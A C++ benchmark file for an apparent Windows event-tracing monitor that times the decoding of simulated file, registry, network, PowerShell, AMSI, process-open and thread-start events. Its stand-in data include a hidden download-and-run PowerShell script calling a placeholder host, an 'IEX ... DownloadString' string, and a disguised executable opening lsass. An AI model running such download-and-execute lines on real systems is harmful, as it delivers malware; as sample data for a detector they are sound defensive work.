// Figures of the trace thread's work per event: the event callback (OnEventRecord: the guarded
// decode, the threat rules, the hand-off into the EventQueue ring) on stand-in event records.
//
// decode_followed_file: rows per second for a file read of a followed process and its
// completion (two events, one row: the request is held until its completion arrives).
// decode_followed_registry / _network / _process: events (= rows) per second for a registry value
// read, a TCP send and a DLL load of a followed process.
// decode_not_followed: events per second for the same five events logged by a process that is
// not followed (no row).
// decode_followed_pipe: rows per second for a pipe created by a followed process and its
// completion (the open's path and disposition decide the row's kind).
// decode_not_followed_channels: events per second for opens of a pipe, a stream and a whole
// volume by a process that is not followed (no row).
// decode_followed_script: rows per second for a script block of one part (a 300-character
// script) of a followed process; decode_followed_long_script: the same for a block of one part of
// 5,000 characters, whose whole text goes beside the row through the ring into the store.
// decode_script_not_followed: events per second for a script
// block and a scanned content event of a process that is not followed (no row).
// decode_not_followed_opens: events per second for a process open and a thread open audited for
// a process that is not followed (no row). decode_followed_open: rows per second for a followed
// process opening another, named by its executable's path. decode_driver_load: rows per second
// for a driver loaded by the system.
//
// decode_followed_thread: rows per second for a thread a followed process starts in another
// process, inside a DLL the image map holds (the row names the target by its program's path and
// the module). decode_thread_not_followed: events per second for thread starts of a process that
// is not followed: one in itself (nearly every thread start of the machine) and one in another
// process that is not followed either (no row).
//
// Baseline of each: copying one 3256-byte row into a ring slot, per row (per event for the last
// figure): the copy the callback made when it queued a row before it took only the row's texts.
// The ratio is the share of that copy rate the whole callback reaches.
#include <cstdlib>
#include <cstring>

#include "app/recording_setup.h"
#include "app/window_layout.h"
#include "base/format.h"
#include "bench.h"
#include "capture/event_queue.h"
#include "capture/trace_controller.h"
#include "decode/decode.h"
#include "platform/memory.h"
#include "platform/sim/headless_ui.h"
#include "platform/sim/sim_drives.h"
#include "platform/sim/sim_event.h"
#include "tracking/tracking_state.h"

using namespace olv;

namespace {

constexpr uint32_t kFollowed = 4242;
constexpr uint32_t kStranger = 9120;
constexpr int64_t kTime = 133565403100000000;
constexpr uint64_t kFileObject = 0xffffc60f1e7a2070;
constexpr uint64_t kIrp = 0xffffc60f2a4d1008;
constexpr uint64_t kKeyObject = 0xffffd50a2c6f1b20;

// The program's side of the callback: a Recording with its ring, a TraceController whose
// tracking follows kFollowed, made the active controller as Start makes it.
constexpr uint32_t kCopySlots = 65536;

struct Rig {
    Recording* app;
    TraceController* tc;
    EventRow* copyRing; // the baseline's
};

void TouchPages(void* block, size_t bytes) {
    auto* bytesOf = static_cast<volatile unsigned char*>(block);
    for (size_t at = 0; at < bytes; at += 4096)
        bytesOf[at] = 0;
}

bool MakeRig(Rig* rig) {
    *rig = Rig{};
    ResetHeadlessUi();
    static const char16_t* const kLetters[] = {u"C:"};
    static const char16_t* const kDevices[] = {u"\\Device\\HarddiskVolume3"};
    SetSimulatedDrives(kLetters, kDevices, 1);
    rig->app = AllocRecord<Recording>();
    if (rig->app == nullptr) return false;
    InitRecording(rig->app);
    WireControls(rig->app, HeadlessControlHandle);
    rig->tc = AllocRecord<TraceController>();
    if (!MakeEventQueue(rig->app) || rig->tc == nullptr) return false;
    // The baseline's ring of whole rows, as the queue held them before it held records.
    rig->copyRing = static_cast<EventRow*>(AllocZeroed(sizeof(EventRow) * kCopySlots));
    if (rig->copyRing == nullptr) return false;
    // Every page of both rings is touched once before anything is timed: a fresh block's first
    // writes fault its pages in, which measures the kernel's page clearing, not the code.
    // OLV_BENCH_COLD_RING=1 leaves the queue's ring untouched, to see what a fresh ring costs.
    const char* cold = std::getenv("OLV_BENCH_COLD_RING");
    if (cold == nullptr || cold[0] != '1') TouchPages(rig->app->queueBytes, kQueueBytes);
    TouchPages(rig->copyRing, sizeof(EventRow) * kCopySlots);
    ResetTraceController(rig->tc);
    rig->tc->core = rig->app;
    TrackLaunchedProcess(&rig->tc->tracking, kFollowed, u"Invoice_2024-0412.pdf.exe", 0);
    RememberProcessName(&rig->tc->tracking, kStranger, u"SearchIndexer.exe", 0);
    activeTraceController = rig->tc;
    return true;
}

void DropRig(Rig* rig) {
    activeTraceController = nullptr;
    if (rig->tc != nullptr) {
        ReleaseTraceController(rig->tc);
        FreeBlock(rig->tc);
    }
    if (rig->app != nullptr) {
        CleanUpRecording(rig->app);
        FreeBlock(rig->app);
    }
    FreeBlock(rig->copyRing);
    *rig = Rig{};
}

// The window thread's side, reduced to nothing: every queued row is taken at once.
void TakeQueue(Recording* app) {
    app->queueRowsOut = app->queueRowsIn;
    app->queueRead = app->queueWrite;
}

void FileCreate(SimEvent* e, uint32_t pid) {
    BeginSimEvent(e, kFileIoProvider, 64, 0, pid, pid + 4, kTime);
    AddSimPointer(e, u"IrpPtr", kIrp);
    AddSimPointer(e, u"FileObject", kFileObject);
    AddSimU32(e, u"TTID", pid + 4);
    AddSimU32(e, u"CreateOptions", 0x01000060);
    AddSimU32(e, u"FileAttributes", 0x80);
    AddSimU32(e, u"ShareAccess", 7);
    AddSimWideString(
        e, u"OpenPath",
        u"\\Device\\HarddiskVolume3\\Users\\analyst\\Documents\\Quarterly report.docx");
}

void FileRead(SimEvent* e, uint32_t pid) {
    BeginSimEvent(e, kFileIoProvider, 67, 0, pid, pid + 4, kTime + 10);
    AddSimU64(e, u"Offset", 8192);
    AddSimPointer(e, u"IrpPtr", kIrp);
    AddSimPointer(e, u"FileObject", kFileObject);
    AddSimPointer(e, u"FileKey", kFileObject + 0x3000);
    AddSimU32(e, u"TTID", pid + 4);
    AddSimU32(e, u"IoSize", 4096);
    AddSimU32(e, u"IoFlags", 0x60900);
}

void FileDone(SimEvent* e, uint32_t pid) {
    BeginSimEvent(e, kFileIoProvider, 76, 0, pid, pid + 4, kTime + 12);
    AddSimPointer(e, u"IrpPtr", kIrp);
    AddSimPointer(e, u"FileObject", 0);
    AddSimPointer(e, u"ExtraInfo", 4096);
    AddSimU32(e, u"NtStatus", 0);
}

void KeyCreate(SimEvent* e) {
    BeginSimEvent(e, kRegistryProvider, 22, 0, kFollowed, kFollowed + 4, kTime);
    AddSimU64(e, u"InitialTime", 0);
    AddSimU32(e, u"Status", 0);
    AddSimU32(e, u"Index", 0);
    AddSimPointer(e, u"KeyHandle", kKeyObject);
    AddSimWideString(e, u"KeyName",
                     u"\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion");
}

void ValueRead(SimEvent* e, uint32_t pid) {
    BeginSimEvent(e, kRegistryProvider, 16, 0, pid, pid + 4, kTime + 20);
    AddSimU64(e, u"InitialTime", 0);
    AddSimU32(e, u"Status", 0);
    AddSimU32(e, u"Index", 0);
    AddSimPointer(e, u"KeyHandle", kKeyObject);
    AddSimWideString(e, u"KeyName", u"ProductName");
}

void TcpSend(SimEvent* e, uint32_t pid) {
    BeginSimEvent(e, kTcpIpProvider, 10, 0, 4, 0, kTime + 30);
    AddSimU32(e, u"PID", pid);
    AddSimU32(e, u"size", 517);
    const uint8_t daddr[4] = {203, 0, 113, 77};
    const uint8_t saddr[4] = {192, 168, 1, 20};
    const uint8_t dport[2] = {0x01, 0xBB}; // 443
    const uint8_t sport[2] = {0xC3, 0xBE}; // 50110
    AddSimBytes(e, u"daddr", daddr, 4);
    AddSimBytes(e, u"saddr", saddr, 4);
    AddSimBytes(e, u"dport", dport, 2);
    AddSimBytes(e, u"sport", sport, 2);
    AddSimU32(e, u"startime", 1200);
    AddSimU32(e, u"endtime", 1201);
    AddSimU32(e, u"seqnum", 0);
    AddSimPointer(e, u"connid", 0xffffc60f35b2e550);
}

void DllLoad(SimEvent* e, uint32_t pid) {
    BeginSimEvent(e, kImageProvider, 10, 0, pid, pid + 4, kTime + 40);
    AddSimPointer(e, u"ImageBase", 0x7ffb4c6a0000);
    AddSimPointer(e, u"ImageSize", 0x19d000);
    AddSimU32(e, u"ProcessId", pid);
    AddSimU32(e, u"ImageCheckSum", 0x1a3b2c);
    AddSimU32(e, u"TimeDateStamp", 0x5e1b2c3d);
    AddSimPointer(e, u"DefaultBase", 0x7ffb4c6a0000);
    AddSimWideString(e, u"FileName", u"\\Device\\HarddiskVolume3\\Windows\\System32\\user32.dll");
}

// An open of path with the create disposition given (the top byte of CreateOptions).
void PathOpen(SimEvent* e, uint32_t pid, const char16_t* path, uint32_t disposition) {
    BeginSimEvent(e, kFileIoProvider, 64, 0, pid, pid + 4, kTime + 8);
    AddSimPointer(e, u"IrpPtr", kIrp);
    AddSimPointer(e, u"FileObject", kFileObject + 0x100);
    AddSimU32(e, u"TTID", pid + 4);
    AddSimU32(e, u"CreateOptions", (disposition << 24) | 0x20);
    AddSimU32(e, u"FileAttributes", 0x80);
    AddSimU32(e, u"ShareAccess", 3);
    AddSimWideString(e, u"OpenPath", path);
}

// A script block of one part, as PowerShell logs a short script.
void ScriptBlock(SimEvent* e, uint32_t pid) {
    BeginSimEvent(e, kPowerShellProvider, 15, 4104, pid, pid + 4, kTime + 50);
    AddSimU32(e, u"MessageNumber", 1);
    AddSimU32(e, u"MessageTotal", 1);
    AddSimWideString(e, u"ScriptBlockText",
                     u"$wc = New-Object System.Net.WebClient\r\n"
                     u"$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')\r\n"
                     u"$data = $wc.DownloadString('http://files.example/update/check.txt')\r\n"
                     u"if ($data -match 'run') { Start-Process -WindowStyle Hidden "
                     u"\"$env:TEMP\\svc.exe\" }\r\nRemove-Variable wc, data\r\n"
                     u"Write-Output 'done with the update check'");
    AddSimWideString(e, u"ScriptBlockId", u"{1f5a0c3e-6b1d-4c1e-9a53-0d2c6a4e7b10}");
    AddSimWideString(e, u"Path", u"");
}

// A script block of one part of 5,000 characters (a part as PowerShell cuts a long block): its
// whole text goes beside the row, through the ring, into the store.
void LongScriptBlock(SimEvent* e, uint32_t pid) {
    static char16_t text[5001];
    for (uint32_t i = 0; i < 5000; ++i)
        text[i] = i % 61 == 60 ? u'\n' : static_cast<char16_t>(u'a' + (i * 7) % 26);
    BeginSimEvent(e, kPowerShellProvider, 15, 4104, pid, pid + 4, kTime + 55);
    AddSimU32(e, u"MessageNumber", 1);
    AddSimU32(e, u"MessageTotal", 1);
    AddSimWideString(e, u"ScriptBlockText", text);
    AddSimWideString(e, u"ScriptBlockId", u"{2a6b1d4f-7c2e-4d2f-8b64-1e3d7b5f8c21}");
    AddSimWideString(e, u"Path", u"C:\\scripts\\setup.ps1");
}

void ScanEvent(SimEvent* e, uint32_t pid) {
    static const char kContent[] = "IEX (New-Object Net.WebClient).DownloadString($u)";
    BeginSimEvent(e, kAmsiProvider, 0, 1101, pid, pid + 4, kTime + 60);
    AddSimU64(e, u"session", 1);
    AddSimU8(e, u"scanStatus", 1);
    AddSimU32(e, u"scanResult", 1);
    AddSimWideString(e, u"appname", u"PowerShell");
    AddSimWideString(e, u"contentname", u"");
    AddSimU32(e, u"contentsize", sizeof kContent - 1);
    AddSimBytes(e, u"content", kContent, sizeof kContent - 1);
}

// An audited open of another process (thread 0) or of one of its threads.
void OpenEvent(SimEvent* e, uint32_t pid, uint32_t thread) {
    BeginSimEvent(e, kKernelAuditProvider, 0, thread != 0 ? 6 : 5, pid, pid + 4, kTime + 70);
    AddSimU32(e, u"TargetProcessId", 712);
    if (thread != 0) AddSimU32(e, u"TargetThreadId", thread);
    AddSimU32(e, u"DesiredAccess", 0x1410);
    AddSimU32(e, u"ReturnCode", 0);
}

void DriverLoad(SimEvent* e) {
    BeginSimEvent(e, kImageProvider, 10, 0, 4, 88, kTime + 80);
    AddSimPointer(e, u"ImageBase", 0xfffff80115a00000);
    AddSimPointer(e, u"ImageSize", 0xd000);
    AddSimU32(e, u"ProcessId", 0);
    AddSimU32(e, u"ImageCheckSum", 0x1a3b2c);
    AddSimU32(e, u"TimeDateStamp", 0x5e1b2c3d);
    AddSimPointer(e, u"DefaultBase", 0xfffff80115a00000);
    AddSimWideString(e, u"FileName", u"\\SystemRoot\\System32\\drivers\\usbstor.sys");
}

// A thread start of creator in target at start, as the kernel's Thread provider logs it.
void ThreadStart(SimEvent* e, uint32_t creator, uint32_t target, uint64_t start) {
    BeginSimEvent(e, kThreadProvider, 1, 0, creator, creator + 4, kTime + 70);
    AddSimU32(e, u"ProcessId", target);
    AddSimU32(e, u"TThreadId", target + 8);
    AddSimPointer(e, u"StackBase", 0xffffd38a1c5f0000);
    AddSimPointer(e, u"StackLimit", 0xffffd38a1c5ea000);
    AddSimPointer(e, u"UserStackBase", 0x6e0000);
    AddSimPointer(e, u"UserStackLimit", 0x6dc000);
    AddSimPointer(e, u"Affinity", 0xff);
    AddSimPointer(e, u"Win32StartAddr", start);
    AddSimPointer(e, u"TebBase", 0x2d4000);
    AddSimU32(e, u"SubProcessTag", 0);
    AddSimU8(e, u"BasePriority", 8);
    AddSimU8(e, u"PagePriority", 5);
    AddSimU8(e, u"IoPriority", 2);
    AddSimU8(e, u"ThreadFlags", 0);
}

// Runs the events through the callback; the rows go into the ring, whose reader keeps up.
template <int N> void Deliver(Recording* app, SimEvent* const (&events)[N]) {
    for (SimEvent* e : events)
        OnEventRecord(&e->record);
    TakeQueue(app);
}

// Queues one row per call the way the callback does, without the decode: the baseline.
struct CopyRing {
    EventRow row;
    EventRow* ring;
    uint32_t at;
};

void CopyOnce(CopyRing* c) {
    std::memcpy(static_cast<void*>(&c->ring[c->at]), &c->row, sizeof(EventRow));
    c->at = (c->at + 1) & (kCopySlots - 1);
    bench::ClobberMemory();
}

// A rig that has seen the events that must come first; false (reported) without memory.
bool StartRig(bench::BenchRun& run, Rig* rig, void (*prepare)()) {
    if (!MakeRig(rig)) {
        DropRig(rig);
        bench::ReportFailure(run, "no memory for the Recording, ring or controller");
        return false;
    }
    if (prepare != nullptr) {
        prepare();
        TakeQueue(rig->app);
    }
    return true;
}

// One figure: events given to the callback per call, rows expected per call.
template <int N>
void RunFigure(bench::BenchRun& run, void (*prepare)(), SimEvent* const (&events)[N],
               uint32_t rowsPerCall, const char* unit) {
    Rig rig;
    if (!StartRig(run, &rig, prepare)) return;
    CopyRing copy{};
    copy.ring = rig.copyRing;
    const uint32_t before = rig.app->queueRowsIn;
    for (SimEvent* e : events)
        OnEventRecord(&e->record);
    const uint32_t made = rig.app->queueRowsIn - before;
    const bool dropped = rig.app->droppedHere != 0 || rig.tc->unreadableRecords != 0;
    PeekQueuedRows(rig.app, &copy.row, 1);
    TakeQueue(rig.app);

    const bench::PairTimes t =
        bench::BestSecondsPerCallPair([&] { Deliver(rig.app, events); }, [&] { CopyOnce(&copy); });
    const bool lost = rig.app->droppedHere != 0 || rig.tc->unreadableRecords != 0;
    DropRig(&rig);
    if (made != rowsPerCall || dropped || lost)
        return bench::ReportFailure(run, "the events did not give the rows expected");
    // Per row, or per event when no row is made; the baseline is one row copy per unit.
    const double units = rowsPerCall > 0 ? rowsPerCall : static_cast<double>(N);
    bench::ReportFigure(run, units / t.work, unit, 1.0 / t.baseline);
}

// The property reads alone that the callback makes for the events: noted once through the
// stand-in readers, then made again with nothing around them, per row (per event when no row).
// Subtracting this from the figure of the same events leaves the trace thread's own work.
template <int N>
void RunReadsFigure(bench::BenchRun& run, void (*prepare)(), SimEvent* const (&events)[N],
                    uint32_t rowsPerCall, const char* unit) {
    Rig rig;
    if (!StartRig(run, &rig, prepare)) return;
    static SimReadLog log;
    log.count = 0;
    SetSimReadLog(&log);
    Deliver(rig.app, events);
    SetSimReadLog(nullptr);
    static uint8_t buffer[1 << 16];
    bool fits = log.count < kSimReadNotes;
    for (uint32_t i = 0; i < log.count; ++i)
        fits = fits && log.notes[i].bufferSize <= sizeof buffer;
    CopyRing copy{};
    copy.ring = rig.copyRing;
    const bench::PairTimes t = bench::BestSecondsPerCallPair(
        [&] {
            uint32_t failures = 0;
            for (uint32_t i = 0; i < log.count; ++i) {
                const SimReadNote& note = log.notes[i];
                uint32_t size = 0;
                failures += note.isRead != 0
                                ? TracePropertyRead(note.event, note.name, buffer, note.bufferSize)
                                : TracePropertySize(note.event, note.name, &size);
                bench::KeepValue(size);
            }
            bench::KeepValue(failures);
            bench::ClobberMemory();
        },
        [&] { CopyOnce(&copy); });
    DropRig(&rig);
    if (log.count == 0 || !fits) return bench::ReportFailure(run, "the reads were not noted");
    const double units = rowsPerCall > 0 ? rowsPerCall : static_cast<double>(N);
    bench::ReportFigure(run, units / t.work, unit, 1.0 / t.baseline);
}

SimEvent gA, gB, gC, gD, gE, gSetup;

// The file is opened (and the open completed) before the reads: its name is known.
void PrepareFile() {
    FileCreate(&gSetup, kFollowed);
    OnEventRecord(&gSetup.record);
    FileDone(&gSetup, kFollowed);
    OnEventRecord(&gSetup.record);
}

// The key's name is known from its key-creation event.
void PrepareKey() {
    KeyCreate(&gSetup);
    OnEventRecord(&gSetup.record);
}

} // namespace

// The events of each followed figure, made into gA (and gB for the file's pair), and what must
// be seen before them; the decode and the reads figures of a kind share them.
struct FollowedKind {
    void (*make)();
    void (*prepare)();
    bool pair;
    const char* unit;
};

void MakeFileEvents() {
    FileRead(&gA, kFollowed);
    FileDone(&gB, kFollowed);
}
void MakeRegistryEvent() {
    ValueRead(&gA, kFollowed);
}
void MakeNetworkEvent() {
    TcpSend(&gA, kFollowed);
}
void MakeProcessEvent() {
    DllLoad(&gA, kFollowed);
}

const FollowedKind kFileKind{MakeFileEvents, PrepareFile, true, "rows/s"};
const FollowedKind kRegistryKind{MakeRegistryEvent, PrepareKey, false, "events/s"};
const FollowedKind kNetworkKind{MakeNetworkEvent, nullptr, false, "events/s"};
const FollowedKind kProcessKind{MakeProcessEvent, nullptr, false, "events/s"};

// The whole callback (kReads false) or its property reads alone (true), per row.
template <bool kReads> void RunFollowed(bench::BenchRun& run, const FollowedKind& kind) {
    kind.make();
    if (kind.pair) {
        SimEvent* const events[] = {&gA, &gB};
        if (kReads) return RunReadsFigure(run, kind.prepare, events, 1, kind.unit);
        return RunFigure(run, kind.prepare, events, 1, kind.unit);
    }
    SimEvent* const events[] = {&gA};
    if (kReads) return RunReadsFigure(run, kind.prepare, events, 1, kind.unit);
    RunFigure(run, kind.prepare, events, 1, kind.unit);
}

OLV_BENCH(decode_followed_file) {
    RunFollowed<false>(run, kFileKind);
}
OLV_BENCH(decode_followed_registry) {
    RunFollowed<false>(run, kRegistryKind);
}
OLV_BENCH(decode_followed_network) {
    RunFollowed<false>(run, kNetworkKind);
}
OLV_BENCH(decode_followed_process) {
    RunFollowed<false>(run, kProcessKind);
}

OLV_BENCH(decode_not_followed) {
    FileRead(&gA, kStranger);
    FileDone(&gB, kStranger);
    ValueRead(&gC, kStranger);
    TcpSend(&gD, kStranger);
    DllLoad(&gE, kStranger);
    SimEvent* const events[] = {&gA, &gB, &gC, &gD, &gE};
    RunFigure(run, PrepareKey, events, 0, "events/s");
}

OLV_BENCH(decode_followed_pipe) {
    PathOpen(&gA, kFollowed, u"\\Device\\NamedPipe\\msagent_81", 3);
    FileDone(&gB, kFollowed);
    SimEvent* const events[] = {&gA, &gB};
    RunFigure(run, nullptr, events, 1, "rows/s");
}

OLV_BENCH(decode_not_followed_channels) {
    PathOpen(&gA, kStranger, u"\\Device\\NamedPipe\\msagent_81", 3);
    PathOpen(&gB, kStranger, u"\\Device\\HarddiskVolume3\\x\\notes.txt:hidden", 2);
    PathOpen(&gC, kStranger, u"\\Device\\HarddiskVolume3", 1);
    SimEvent* const events[] = {&gA, &gB, &gC};
    RunFigure(run, nullptr, events, 0, "events/s");
}

OLV_BENCH(decode_followed_script) {
    ScriptBlock(&gA, kFollowed);
    SimEvent* const events[] = {&gA};
    RunFigure(run, nullptr, events, 1, "rows/s");
}

OLV_BENCH(decode_followed_long_script) {
    LongScriptBlock(&gA, kFollowed);
    SimEvent* const events[] = {&gA};
    RunFigure(run, nullptr, events, 1, "rows/s");
}

OLV_BENCH(decode_script_not_followed) {
    ScriptBlock(&gA, kStranger);
    ScanEvent(&gB, kStranger);
    SimEvent* const events[] = {&gA, &gB};
    RunFigure(run, nullptr, events, 0, "events/s");
}

OLV_BENCH(decode_not_followed_opens) {
    OpenEvent(&gA, kStranger, 0);
    OpenEvent(&gB, kStranger, 716);
    SimEvent* const events[] = {&gA, &gB};
    RunFigure(run, nullptr, events, 0, "events/s");
}

// LSASS is named by its start rundown, as the recording learns the processes already running.
void PrepareLsass() {
    BeginSimEvent(&gSetup, kProcessProvider, 3, 0, 0, 0, kTime);
    AddSimU32(&gSetup, u"ProcessId", 712);
    AddSimU32(&gSetup, u"ParentId", 560);
    AddSimAnsiString(&gSetup, u"ImageFileName", "lsass.exe");
    AddSimWideString(&gSetup, u"CommandLine", u"C:\\Windows\\system32\\lsass.exe");
    OnEventRecord(&gSetup.record);
}

OLV_BENCH(decode_followed_open) {
    OpenEvent(&gA, kFollowed, 0);
    SimEvent* const events[] = {&gA};
    RunFigure(run, PrepareLsass, events, 1, "rows/s");
}

OLV_BENCH(decode_driver_load) {
    DriverLoad(&gA);
    SimEvent* const events[] = {&gA};
    RunFigure(run, nullptr, events, 1, "rows/s");
}

// The stranger's program and a DLL of it are in the image map.
void PrepareStrangerImages() {
    DllLoad(&gSetup, kStranger);
    OnEventRecord(&gSetup.record);
    BeginSimEvent(&gSetup, kImageProvider, 10, 0, kStranger, kStranger + 4, kTime + 30);
    AddSimPointer(&gSetup, u"ImageBase", 0x7ff6a1c20000);
    AddSimPointer(&gSetup, u"ImageSize", 0x2e000);
    AddSimU32(&gSetup, u"ProcessId", kStranger);
    AddSimWideString(&gSetup, u"FileName",
                     u"\\Device\\HarddiskVolume3\\Windows\\System32\\SearchIndexer.exe");
    OnEventRecord(&gSetup.record);
}

OLV_BENCH(decode_followed_thread) {
    ThreadStart(&gA, kFollowed, kStranger, 0x7ffb4c6a0000 + 0x2a1c0);
    SimEvent* const events[] = {&gA};
    RunFigure(run, PrepareStrangerImages, events, 1, "rows/s");
}

OLV_BENCH(decode_thread_not_followed) {
    ThreadStart(&gA, kStranger, kStranger, 0x7ffb4c6a0000 + 0x2a1c0);
    ThreadStart(&gB, kStranger, kStranger + 400, 0x7ffb4c6a0000 + 0x2a1c0);
    SimEvent* const events[] = {&gA, &gB};
    RunFigure(run, PrepareStrangerImages, events, 0, "events/s");
}

// An image event of pid (a load, or an unload with kUnload) of the image at base named path.
void ImageEvent(SimEvent* e, uint8_t opcode, uint32_t pid, uint64_t base, const char16_t* path) {
    BeginSimEvent(e, kImageProvider, opcode, 0, pid, pid + 4, kTime + 40);
    AddSimPointer(e, u"ImageBase", base);
    AddSimPointer(e, u"ImageSize", 0x3a000);
    AddSimU32(e, u"ProcessId", pid);
    AddSimU32(e, u"ImageCheckSum", 0x1a3b2c);
    AddSimU32(e, u"TimeDateStamp", 0x5e1b2c3d);
    AddSimPointer(e, u"DefaultBase", base);
    AddSimWideString(e, u"FileName", path);
}

constexpr uint8_t kLoad = 10;
constexpr uint8_t kUnload = 2;
constexpr uint32_t kBusyFirstPid = 20000;
constexpr int kBusyProcesses = 100;
constexpr int kBusyImages = 120;
constexpr int kBusyPairs = 4;
SimEvent gBusy[kBusyPairs * 2];

uint64_t BusyBase(int image) {
    return 0x7ff800000000 + uint64_t(image) * 0x40000;
}

void BusyPath(char16_t* out, size_t capacity, int image) {
    FormatText(out, capacity, u"\\Device\\HarddiskVolume3\\Windows\\System32\\library%03d.dll",
               image);
}

void PrepareBusyMap() {
    char16_t path[96];
    for (int p = 0; p < kBusyProcesses; ++p) {
        for (int i = 0; i < kBusyImages; ++i) {
            BusyPath(path, 96, i);
            ImageEvent(&gSetup, kLoad, kBusyFirstPid + 4 * p, BusyBase(i), path);
            OnEventRecord(&gSetup.record);
        }
    }
}

OLV_BENCH(decode_image_busy_map) {
    char16_t path[96];
    for (int k = 0; k < kBusyPairs; ++k) {
        const uint32_t pid = kBusyFirstPid + 4 * (7 + 29 * k);
        const int image = 5 + 31 * k;
        BusyPath(path, 96, image);
        ImageEvent(&gBusy[2 * k], kUnload, pid, BusyBase(image), path);
        ImageEvent(&gBusy[2 * k + 1], kLoad, pid, BusyBase(image), path);
    }
    SimEvent* const events[] = {&gBusy[0], &gBusy[1], &gBusy[2], &gBusy[3],
                                &gBusy[4], &gBusy[5], &gBusy[6], &gBusy[7]};
    RunFigure(run, PrepareBusyMap, events, 0, "events/s");
}

OLV_BENCH(reads_followed_file) {
    RunFollowed<true>(run, kFileKind);
}
OLV_BENCH(reads_followed_registry) {
    RunFollowed<true>(run, kRegistryKind);
}
OLV_BENCH(reads_followed_network) {
    RunFollowed<true>(run, kNetworkKind);
}
OLV_BENCH(reads_followed_process) {
    RunFollowed<true>(run, kProcessKind);
}
